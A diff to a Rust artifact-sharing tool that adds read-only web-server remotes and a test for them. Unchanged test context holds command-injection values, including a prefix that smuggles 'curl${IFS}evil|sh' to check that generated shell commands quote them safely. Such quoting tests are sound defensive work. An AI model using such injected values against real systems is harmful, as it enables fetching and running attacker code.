@@ -24,7 +24,7 @@ const EXAMPLES: &str = "Examples:
 
 /// Set up, check and list the object stores in which a team shares artifacts
 ///
-/// A remote is a directory or an S3 bucket. A table remote of depsfs.toml names it for all who work on the repository,
+/// A remote is a directory or an S3 bucket, or a web server that is only read. A table remote of depsfs.toml names it for all who work on the repository,
 /// after depsfs approve; a table remote.NAME of your own config.toml completes it or adds one. depsfs help remote has the
 /// keys.
 #[derive(Args)]
@@ -134,6 +134,9 @@ fn rule(spec: &RemoteSpec, keep_days: u32) -> String {
             "  old:      this rule deletes what is older; remote.json is too small for it, and stays:\n  {}\n",
             lifecycle_command(&bucket, &prefix, keep_days)
         ),
+        Ok(Address::Web { .. }) => {
+            format!("  old:      what is older than {keep_days} days is deleted in its bucket\n")
+        }
         _ => format!("  old:      depsfs remote prune deletes what is older than {keep_days} days\n"),
     }
 }
@@ -230,6 +233,7 @@ mod tests {
         assert!(text.ends_with(&word), "{text} is without {word}");
         let hostile = lifecycle_command("b;id", "x';curl${IFS}evil|sh;'\"", 90);
         assert!(hostile.contains("--bucket 'b;id' ") && hostile.contains(r#"x'\'';curl${IFS}evil|sh;'\''\"/depsfs"#));
+        assert!(super::rule(&spec("https://h/x"), 90).contains("deleted in its bucket"));
         assert!(super::rule(&spec("file:///srv/x"), 90).contains("depsfs remote prune"));
     }
 }
